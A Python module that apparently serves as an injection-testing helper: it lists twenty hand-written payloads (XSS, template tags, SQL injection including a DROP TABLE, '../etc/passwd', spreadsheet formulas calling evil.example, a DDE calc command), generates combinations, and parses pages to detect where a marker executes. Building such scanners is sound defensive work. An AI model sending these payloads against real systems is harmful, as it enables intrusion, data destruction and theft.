"""What an attacker types into a field of text: markup, template tags, SQL, paths, formulas; each with a word that tells
it apart. Twenty by hand, and as many as wanted of their combinations."""

from __future__ import annotations

from html.parser import HTMLParser
from itertools import islice, product

WORD = "lhrx"
HAND = (
    "<script>alert('@')</script>", "\"><img src=x onerror=alert('@')>", "'><svg onload=@>", "<a href=javascript:@>",
    "</textarea><script src=//evil.example/@></script>", "<iframe srcdoc='<b>@'>", "{{ 7|add:7 }}<b @>",
    "{% debug %}<b @>", "${7*7}<b @>", "' OR '1'='1' --<b @>", "'; DROP TABLE people_person; --<b @>",
    "1) UNION SELECT password FROM identity_account --<b @>", "\\'; SELECT pg_sleep(9); --<b @>", "../etc/passwd<b @>",
    '=HYPERLINK("//evil.example/@")', "@SUM(1+1)*cmd|' /C calc'!A0<b @>", '<b @ style="x:expression(1)">',
    "<math><mi xlink:href=javascript:@>", "&lt;<b @>", "<!--<b @>-->",
)  # fmt: skip
_BEFORE = ("", '"', "'", '">', "'>", "</td>", "</title>", "-->", "]]>", "`")
_TAGS = (
    "<script>@</script>", "<img src=x onerror=@>", "<svg/onload=@>", "<body onpageshow=@>", "<b @>",
    "<input onfocus=@>", "<details open ontoggle=@>", "<object data=//e.example/@>", "<base href=//@/>",
    "<form action=//@><button>", "<meta http-equiv=refresh content=0;//@>", "<link rel=stylesheet href=//@>",
)  # fmt: skip
_AFTER = ("", "<!--", "' --", "; --")
_LEADS = ("href", "src", "data", "action", "srcdoc", "content", "style")


def payloads(count: int) -> list[str]:
    """Return `count` of them, the twenty first."""
    made = ("".join(parts) for parts in product(_BEFORE, _TAGS, _AFTER))
    return [text.replace("@", f"{WORD}{n}") for n, text in enumerate(islice((*HAND, *made), count))]


class _Reader(HTMLParser):
    """Reads a page as a browser does and keeps where the word stands as anything else than text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.runs: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._script = tag == "script"
        for name, value in attrs:
            text = value or ""
            ours = text.startswith(("?", "#", "/")) and not text.startswith("//")
            if WORD in name or (WORD in text and (name.startswith("on") or (name.endswith(_LEADS) and not ours))):
                self.runs.append(f"{tag} {name}={value}")

    def handle_endtag(self, tag: str) -> None:
        self._script = False

    def handle_data(self, data: str) -> None:
        if self._script and WORD in data:
            self.runs.append(data)

    def handle_comment(self, data: str) -> None:
        if WORD in data:
            self.runs.append(data)


def runs_in(page: str) -> list[str]:
    """Return where in the page one of them would be more than text."""
    if WORD not in page:
        return []
    reader = _Reader()
    reader.feed(page)
    return reader.runs
